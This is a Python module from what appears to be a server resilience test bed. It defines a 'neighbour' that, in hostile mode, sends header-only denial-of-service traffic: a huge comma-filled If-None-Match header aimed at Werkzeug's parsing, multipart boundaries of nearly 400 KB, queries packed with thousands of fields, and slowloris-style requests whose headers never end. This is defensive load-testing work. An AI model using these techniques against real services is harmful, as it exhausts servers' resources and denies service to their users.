"""Attacks by a request's head alone: dear headers and queries, and heads without an end."""

import os
from collections.abc import Callable
from uuid import uuid4

from bed.neighbour.sending import Held, Orders, Sender

#: The head that the server takes by default has 408 KiB: one header of nearly all of that.
MATCH_BYTES, BOUNDARY_BYTES = 380_000, 390_000
#: About what a path and its query may have together.
QUERY_BYTES = 64_000
#: A file's form with a boundary of any length.
FORM = (
    '--{0}\r\nContent-Disposition: form-data; name="purpose"\r\n\r\nbatch\r\n'
    '--{0}\r\nContent-Disposition: form-data; name="file"; filename="lines.jsonl"\r\n\r\n{{}}\r\n--{0}--\r\n'
)


class Heads(Sender):
    """The neighbour's heads."""

    def __init__(self, orders: Orders) -> None:
        """Send nothing yet."""
        super().__init__(orders)
        # Werkzeug matches each comma by itself: 70 ms of processor.
        self._match = "," * MATCH_BYTES
        self._query = "&".join(f"f{number}=" for number in range(QUERY_BYTES // 8))
        self._half = Held(orders.at_once["half_requests"], until_closed=True)

    def kinds(self) -> dict[str, Callable[[], int]]:
        """The attacks, by name."""
        return {
            "conditions": self.condition,
            "boundaries": self.boundary,
            "long_queries": self.long_query,
            "half_requests": self.half_request,
        }

    def condition(self) -> int:
        """A page without a key, if it is none of some ten thousand."""
        if not self._orders.is_hostile:
            return self._send("GET", "/healthz", b"", "")
        return self._ask("GET", "/openapi.json", b"", "", {"If-None-Match": self._match})[0]

    def boundary(self) -> int:
        """An upload whose boundary is as long as a head may be, and another one each time."""
        boundary = uuid4().hex
        if self._orders.is_hostile:
            boundary += os.urandom((BOUNDARY_BYTES - len(boundary)) // 2).hex()
        kind = {"Content-Type": f"multipart/form-data; boundary={boundary}"}
        return self._ask("POST", "/v1/files", FORM.format(boundary).encode(), self._orders.key, kind)[0]

    def long_query(self) -> int:
        """A list, with as many fields in its query as that has room for."""
        query = self._query if self._orders.is_hostile else "limit=1"
        return self._send("GET", f"/v1/files?{query}", b"", self._orders.key)

    def half_request(self) -> int:
        """A head that does not end. As many as came at once are open; new ones replace those that the server closes."""
        if not self._orders.is_hostile:
            return self._send("GET", "/healthz", b"", "")
        self._half.open(self._orders.host, self._orders.port, b"GET /healthz HTTP/1.1\r\nHost: x\r\n")
        return 0
